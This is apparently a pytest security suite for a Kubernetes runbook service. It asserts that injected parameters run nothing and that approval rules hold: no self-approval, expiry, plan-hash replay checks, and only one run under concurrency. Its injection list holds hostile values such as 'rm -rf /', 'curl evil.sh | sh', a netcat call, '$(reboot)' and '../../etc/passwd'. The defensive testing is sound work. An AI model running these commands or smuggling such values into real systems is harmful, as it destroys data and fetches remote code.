"""Security: each test is a real attempt through the public API, and asserts that nothing ran
(no command reached the executor, no request reached the transport)."""

from __future__ import annotations

import threading

import pytest

from tests.runbook_support import make_rig
from tools.runbooks.errors import NotAllowed, ParameterError
from tools.runbooks.loader import RunbookLibrary

INJECTIONS = [
    "payment; rm -rf /", "payment && curl evil.sh | sh", "$(reboot)", "`id`", "payment|nc x 1",
    "payment\nrm -rf /", "payment\r\n", "--all-namespaces", "-n", "--kubeconfig=/tmp/k",
    "../../etc/passwd", "/var/lib/postgresql/data/pg_wal_archive/../../../../etc",
    "a" * 5000, "раyment",  # Cyrillic 'р' and 'а'
    "payment\u200b", "ｐａｙｍｅｎｔ", "payment'", 'pay"ment', "pay ment", "${IFS}", "%2e%2e%2f",
    "payment>out", "*", "\x00",
]
LIBRARY = RunbookLibrary.load()
CASES = [(rb.name, p) for rb in LIBRARY for p in rb.parameters]


def _valid(runbook: str) -> dict[str, object]:
    rb = LIBRARY.get(runbook)
    good = {"service": "payment", "node": "node-1", "flag": "currency-live-rates",
            "certificate": "payment-tls", "release": "payment", "caller": "cart"}
    return {n: good[n] for n in rb.parameters if n in good and rb.parameters[n].default is None}


@pytest.fixture(scope="module")
def shared_rig(tmp_path_factory):
    return make_rig(tmp_path_factory.mktemp("injection"))


@pytest.mark.parametrize(("runbook", "param"), CASES)
def test_injection_in_every_parameter_runs_nothing(shared_rig, runbook, param):
    rig = shared_rig
    before = len(rig.audit.entries(subject=runbook))
    for value in INJECTIONS:
        with pytest.raises(ParameterError):
            rig.service.request("alice", runbook, {**_valid(runbook), param: value})
        with pytest.raises(ParameterError):
            rig.service.plan(runbook, {**_valid(runbook), param: value})
    assert rig.service.list_requests() == []
    assert not rig.ran_anything
    refused = rig.audit.entries(subject=runbook)[before:]
    assert [e.action for e in refused] == ["request_refused"] * len(INJECTIONS)


def test_a_valid_value_fills_exactly_one_argv_item(tmp_path):
    rig = make_rig(tmp_path)
    plan = rig.service.plan("restart-deployment", {"service": "payment"})
    assert plan.steps[1].argv == ["kubectl", "-n", "shop", "rollout", "restart", "deployment",
                                  "payment"]


def _approved(rig, runbook="roll-back-deploy", params=None):
    params = params or {"release": "checkout", "service": "checkout"}
    return rig.service.request("alice", runbook, params)


def test_approval_by_someone_the_policy_does_not_allow(tmp_path):
    rig = make_rig(tmp_path)
    req = _approved(rig)
    for outsider in ("mallory", "eve", "alice"):  # a dev, a stranger, the requester
        with pytest.raises(NotAllowed):
            rig.service.approve(outsider, req.id, req.plan_hash)
    with pytest.raises(NotAllowed):
        rig.service.run("alice", req.id, "k1")
    with pytest.raises(NotAllowed):  # mallory may not even run it
        rig.service.run("mallory", req.id, "k2")
    assert not rig.ran_anything


def test_self_approval_of_high_is_refused(tmp_path):
    rig = make_rig(tmp_path)
    req = rig.service.request("bob", "roll-back-deploy", {"release": "checkout",
                                                          "service": "checkout"})
    with pytest.raises(NotAllowed, match="may not approve"):
        rig.service.approve("bob", req.id, req.plan_hash)
    rig.service.approve("carol", req.id, req.plan_hash)
    with pytest.raises(NotAllowed, match="needs 2"):
        rig.service.run("bob", req.id, "k1")
    assert not rig.ran_anything


def test_one_approver_for_high_is_not_enough_even_twice(tmp_path):
    rig = make_rig(tmp_path)
    req = _approved(rig)
    rig.service.approve("carol", req.id, req.plan_hash)
    with pytest.raises(Exception, match="already decided"):
        rig.service.approve("carol", req.id, req.plan_hash)
    with pytest.raises(NotAllowed, match="needs 2 valid approval"):
        rig.service.run("alice", req.id, "k1")
    assert rig.service.status(req.id).status == "pending"
    assert not rig.ran_anything


def test_expired_approval_does_not_count(tmp_path):
    rig = make_rig(tmp_path)
    req = _approved(rig)
    rig.service.approve("carol", req.id, req.plan_hash)
    rig.clock.t += 31 * 60  # the policy's ttl is 30 minutes
    rig.service.approve("dan", req.id, req.plan_hash)
    assert rig.service.status(req.id).approvals_valid == 1
    with pytest.raises(NotAllowed, match="it has 1"):
        rig.service.run("alice", req.id, "k1")
    assert not rig.ran_anything


def test_approval_replayed_for_a_changed_plan(tmp_path):
    rig = make_rig(tmp_path)
    first = _approved(rig)
    changed = rig.service.request("alice", "roll-back-deploy",
                                  {"release": "checkout", "service": "checkout", "revision": 3})
    assert changed.plan_hash != first.plan_hash
    # the approver saw the first plan: their approval cannot land on the changed one
    with pytest.raises(NotAllowed, match="plan changed"):
        rig.service.approve("carol", changed.id, first.plan_hash)
    rig.service.approve("carol", first.id, first.plan_hash)
    rig.service.approve("dan", first.id, first.plan_hash)
    # a parameter edited in the database after approval voids the approvals
    from sqlalchemy import update

    from tools.runbooks.store import RequestRow
    with rig.service._sessions.begin() as s:
        s.execute(update(RequestRow).where(RequestRow.id == first.id)
                  .values(params='{"namespace": "shop", "release": "payment", "revision": 0, '
                                 '"service": "payment"}'))
    with pytest.raises(NotAllowed, match="hash differs"):
        rig.service.run("alice", first.id, "k1")
    assert not rig.ran_anything


def test_concurrent_double_run_runs_once(tmp_path):
    rig = make_rig(tmp_path)
    req = rig.service.request("alice", "raise-connection-pool", {"service": "payment"})
    rig.service.approve("carol", req.id, req.plan_hash)
    results, errors = [], []
    barrier = threading.Barrier(6)

    def click(key: str) -> None:
        barrier.wait()
        try:
            results.append(rig.service.run("bob", req.id, key))
        except Exception as exc:  # noqa: BLE001 - collected and asserted below
            errors.append(exc)

    # three double clicks (same key) and three different keys, all at once
    threads = [threading.Thread(target=click, args=(k,))
               for k in ("same", "same", "same", "other-1", "other-2", "other-3")]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert sum(r.ran for r in results) == 1
    puts = [r for r in rig.transport.requests if r.method == "PUT"]
    assert len(puts) == 1
    restarts = [c for c in rig.cli.calls if c[3:5] == ["rollout", "restart"]]
    assert len(restarts) == 1
    # and a redelivered action afterwards runs nothing either
    again = rig.service.run("bob", req.id, "same")
    assert not again.ran and len(rig.cli.calls) == len(restarts) + 1  # + the rollout status
    assert rig.audit.verify().ok
